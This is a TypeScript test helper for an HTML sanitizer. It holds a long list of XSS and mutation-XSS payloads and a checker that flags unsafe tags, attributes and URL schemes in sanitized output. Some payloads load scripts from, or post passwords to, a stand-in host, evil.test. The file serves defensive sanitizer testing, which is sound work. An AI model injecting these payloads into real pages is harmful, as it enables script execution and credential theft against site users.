import { Parser } from 'htmlparser2';

/** Known ways to smuggle something active into HTML (OWASP's cheat sheet, mutation XSS, and what sanitizers have let through). */
export const vectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script >alert(1)</script >',
  '<script\x20type="text/javascript">javascript:alert(1);</script>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<script>alert(1)<!--</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img/src="x"/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x" src="https://a.test/a.png">',
  '<img src="https://a.test/a.png" style="background:url(javascript:alert(1))">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://a.test/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a onmouseover="alert(1)" href="https://a.test">x</a>',
  '<a href="https://a.test" ping="https://evil.test" download>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<p style="position:fixed;inset:0;background:red">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.test"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<p id="x" name="getElementById" data-x="y" contenteditable accesskey=x autofocus tabindex=1 onfocus=alert(1)>x</p>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<p class="fixed inset-0 wp-block">x</p>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<x onclick=alert(1)>x</x>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="javascript&#x0A;:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  '<a href=javascript:alert(1) target=_blank rel=opener>x</a>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>"></noscript></desc></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"></set></svg>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<table><tr><td><svg><td><style><img src=x onerror=alert(1)></style></td></svg></td></tr></table>',
  '<video poster="javascript:alert(1)" autoplay onplay=alert(1)><track src=x onload=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<input type="image" src="https://a.test/a.png" formaction="javascript:alert(1)">',
  '<dialog open onclose=alert(1)><button popovertarget=x>x</button></dialog>',
  '<div popover id=x onbeforetoggle=alert(1)>x</div>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<portal src="https://evil.test" onload=alert(1)></portal>',
  '<img src="https://a.test/a.png" usemap="#m"><map name=m><area href="javascript:alert(1)" shape=default></map>',
  '<img name="cookie" id="defaultView" src="https://a.test/a.png">',
  '<a id="__proto__" name="attributes" href="https://a.test">x</a>',
  '<bdo dir="rtl" onpointerover=alert(1)>x</bdo>',
  '<p title=`onmouseover=alert(1)`>x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<div translate="no" slot="x" is="x-y" part="z" nonce="a">x</div>',
  '<xss style="animation-name:x" onanimationstart=alert(1)></xss>',
  '<ul><li style="list-style-image:url(javascript:alert(1))">x</ul>',
  '<td colspan="9" onmouseenter=alert(1)>x</td>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '<\u017fcript>alert(1)</\u017fcript>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
];

const tags = new Set(
  (
    'h1 h2 h3 h4 h5 h6 p br hr div span section article aside header footer main address blockquote q cite pre code kbd samp var ' +
    'strong b em i u s del ins mark small sub sup abbr dfn time wbr bdi bdo ruby rt rp ul ol li dl dt dd ' +
    'table caption colgroup col thead tbody tfoot tr th td a figure figcaption img details summary'
  ).split(' '),
);
const attributes = new Set(
  (
    'title lang dir id class href hreflang rel target src srcset sizes alt width height loading start reversed type value ' +
    'colspan rowspan scope abbr span datetime cite open'
  ).split(' '),
);
const addresses = new Set(['href', 'src', 'cite']);

/** Judges HTML by another list than the sanitizer's own settings: only known tags and attributes, only safe addresses, no comment. */
export function assertHarmless(html: string): void {
  const wrong: string[] = [];
  const parser = new Parser({
    onopentag(name, attribs) {
      if (!tags.has(name)) wrong.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attribs)) {
        if (!attributes.has(attribute)) wrong.push(`${name} ${attribute}`);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers ignore them in addresses
        const plain = value.replace(/[\u0000-\u0020]/g, '');
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(plain)?.[1]?.toLowerCase();
        const known = name === 'a' ? ['http', 'https', 'mailto'] : ['http', 'https'];
        if (addresses.has(attribute) && scheme && !known.includes(scheme)) wrong.push(`${attribute}=${value}`);
        if (addresses.has(attribute) && /^[\\/]{2}/.test(plain)) wrong.push(`${attribute}=${value}`);
        if (attribute === 'srcset' && /(?:javascript|data|vbscript):/i.test(plain)) wrong.push(`srcset=${value}`);
        if (attribute === 'class' && /\b(?:fixed|inset)\b/.test(value)) wrong.push(`class=${value}`);
        if (attribute === 'target' && !/\bnoopener\b/.test(attribs.rel ?? '')) wrong.push(`target without noopener`);
      }
    },
    oncomment: (text) => void wrong.push(`comment ${text}`),
    onprocessinginstruction: (name) => void wrong.push(`instruction ${name}`),
  });
  parser.end(html);
  expect(wrong).toEqual([]);
}
